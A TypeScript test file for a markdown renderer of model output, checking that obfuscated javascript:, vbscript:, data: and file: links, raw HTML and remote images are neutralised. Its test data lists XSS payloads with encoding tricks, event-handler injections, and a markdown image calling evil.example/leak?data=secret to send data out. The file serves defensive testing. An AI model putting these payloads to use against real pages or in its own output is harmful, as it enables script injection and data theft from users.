// Links and images in model output: only http(s), mailto and relative links
// become anchors, whatever a browser would undo to find the scheme; images
// are never loaded.
import { describe, expect, it } from "vitest";
import { renderMarkdown, safeUrl } from "../src/ui/markdown";

/** The rendered markdown as a DOM, to ask what a browser would make of it. */
function dom(markdown: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = renderMarkdown(markdown);
  return div;
}

const refused = [
  ["plain", "javascript:alert(1)"],
  ["upper and mixed case", "JaVaScRiPt:alert(1)"],
  ["a tab inside the scheme", "java\tscript:alert(1)"],
  ["a newline inside the scheme", "java\nscript:alert(1)"],
  ["a carriage return inside the scheme", "java\rscript:alert(1)"],
  ["a leading space", " javascript:alert(1)"],
  ["a leading NUL", "\u0000javascript:alert(1)"],
  ["leading control characters", "\u0001\u001f\u0008javascript:alert(1)"],
  ["a trailing control character in the scheme", "javascript\u0000:alert(1)"],
  ["a decimal character reference for a letter", "&#106;avascript:alert(1)"],
  ["a hexadecimal character reference without ;", "&#x6A;avascript:alert(1)"],
  ["a character reference for the colon", "javascript&#58;alert(1)"],
  ["a named reference for the colon", "javascript&colon;alert(1)"],
  ["a character reference for a tab", "jav&#x09;ascript:alert(1)"],
  ["a named reference for a tab", "jav&Tab;ascript:alert(1)"],
  ["a percent-encoded colon", "javascript%3Aalert(1)"],
  ["a doubly percent-encoded colon", "javascript%253Aalert(1)"],
  ["a percent-encoded letter", "%6Aavascript:alert(1)"],
  ["vbscript", "vbscript:msgbox(1)"],
  ["data", "data:text/html,<script>alert(1)</script>"],
  ["file", "file:///etc/passwd"],
  ["an unknown scheme", "ms-settings:"],
  ["an encoded http", "http%3A//example.com"],
] as const;

describe("safeUrl", () => {
  it.each(refused)("refuses %s", (_why, href) => {
    expect(safeUrl(href)).toBeNull();
  });

  it.each([
    ["https://example.com/a?b=1#c", "https://example.com/a?b=1#c"],
    ["HTTP://EXAMPLE.COM", "HTTP://EXAMPLE.COM"],
    ["mailto:ava@example.com", "mailto:ava@example.com"],
    ["/api/projects", "/api/projects"],
    ["#section", "#section"],
    ["./notes.md", "./notes.md"],
    ["../up/one.md", "../up/one.md"],
    ["docs/design.md", "docs/design.md"],
    ["src/a.cpp#L10", "src/a.cpp#L10"],
    ["?q=1", "?q=1"],
    ["  https://example.com/padded\t", "https://example.com/padded"],
    ["https://example.com/?a=1&amp;b=2", "https://example.com/?a=1&b=2"],
    ["https://example.com/a%3Ab", "https://example.com/a%3Ab"],
  ])("keeps %s", (href, expected) => {
    expect(safeUrl(href)).toBe(expected);
  });
});

describe("links in rendered markdown", () => {
  it.each([
    ["an inline link", (u: string) => `[click](${u})`],
    ["a link in angle brackets", (u: string) => `[click](<${u}>)`],
    ["a reference link", (u: string) => `[click][r]\n\n[r]: <${u}>`],
  ])("%s with a refused address renders its text only", (_kind, make) => {
    for (const [, href] of refused) {
      const el = dom(make(href));
      expect(el.querySelector("a"), JSON.stringify(href)).toBeNull();
      expect(el.textContent).toContain("click");
    }
  });

  it("an autolink to javascript: is text", () => {
    const el = dom("<javascript:alert(1)> and <JAVASCRIPT:alert(2)>");
    expect(el.querySelector("a")).toBeNull();
    expect(el.textContent).toContain("javascript:alert(1)");
  });

  it("no anchor a browser would run as script, whatever the input", () => {
    const inputs = [
      "[a](<java\tscript:alert(1)>)",
      "[a](<\u0000javascript:alert(1)>)",
      "[a](&#106;avascript:alert(1))",
      "[a](javascript&#58;alert(1))",
      "[a](javascript%3Aalert(1))",
      "<java\tscript:alert(1)>",
      '<a href="javascript:alert(1)">x</a>',
      "[a](<javascript:alert(1)> 'title')",
    ];
    for (const input of inputs) {
      for (const a of dom(input).querySelectorAll("a")) {
        // What the browser resolves the attribute to, after its own decoding and trimming.
        expect(new URL(a.getAttribute("href")!, "http://127.0.0.1/").protocol, input).toMatch(/^https?:$|^mailto:$/);
      }
    }
  });

  it("keeps safe links, opening in a new tab without an opener", () => {
    const el = dom("[docs](https://example.com/d) [mail](mailto:a@example.com) [here](./x.md) www.example.org");
    const anchors = [...el.querySelectorAll("a")];
    expect(anchors.map((a) => a.getAttribute("href"))).toEqual(["https://example.com/d", "mailto:a@example.com", "./x.md", "http://www.example.org"]);
    for (const a of anchors) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });
});

describe("images in rendered markdown", () => {
  it("are never loaded: a remote image is its alt text and a link to its address", () => {
    const el = dom("![a chart](https://evil.example/leak?data=secret)");
    expect(el.querySelector("img")).toBeNull();
    expect(el.textContent?.trim()).toBe("[image: a chart] https://evil.example/leak?data=secret");
    expect(el.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/leak?data=secret");
  });

  it("reference images and raw HTML images are not loaded either", () => {
    const el = dom('![x][pic]\n\n[pic]: https://evil.example/p.png\n\n<img src="https://evil.example/q.png">\n\nText <img src=x onerror=alert(1)> <picture><source srcset="https://e/x"></picture>');
    expect(el.querySelector("img, picture, source")).toBeNull();
    expect(el.textContent).toContain('<img src="https://evil.example/q.png">');
  });

  it("an image with a javascript: or data: address is text", () => {
    const el = dom("![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)");
    expect(el.querySelector("img, a")).toBeNull();
    expect(el.textContent).toContain("[image: x] javascript:alert(1)");
  });

  it("raw HTML of any kind is shown as text", () => {
    const el = dom('<script>alert(1)</script>\n\n<iframe src="https://e/"></iframe>\n\n<svg onload=alert(1)>\n\ninline <b onmouseover=alert(1)>bold</b>');
    expect(el.querySelector("script, iframe, svg, b")).toBeNull();
    expect(el.textContent).toContain("<script>alert(1)</script>");
  });
});
